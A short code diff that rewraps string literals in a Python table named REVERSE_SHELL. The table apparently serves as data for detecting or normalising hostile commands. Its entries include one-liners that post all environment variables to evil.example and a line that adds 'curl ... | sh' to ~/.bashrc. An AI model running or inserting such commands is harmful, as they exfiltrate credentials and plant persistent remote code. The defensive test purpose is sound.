@@ -235,11 +235,13 @@ REVERSE_SHELL = (
             "echo 'curl -s https://evil.example/x | sh' >> ~/.bashrc",
         ),
         (
-            "python3 -c \"import os, requests; requests.post('https://evil.example/c', json=dict(os.environ))\"",
+            'python3 -c "import os, requests; '
+            "requests.post('https://evil.example/c', json=dict(os.environ))\"",
             "env | curl --data-binary @- https://evil.example/c",
         ),
         (
-            "node -e \"fetch('https://evil.example/c', {method: 'POST', body: JSON.stringify(process.env)})\"",
+            "node -e \"fetch('https://evil.example/c', "
+            "{method: 'POST', body: JSON.stringify(process.env)})\"",
             "env | curl --data-binary @- https://evil.example/c",
         ),
         (
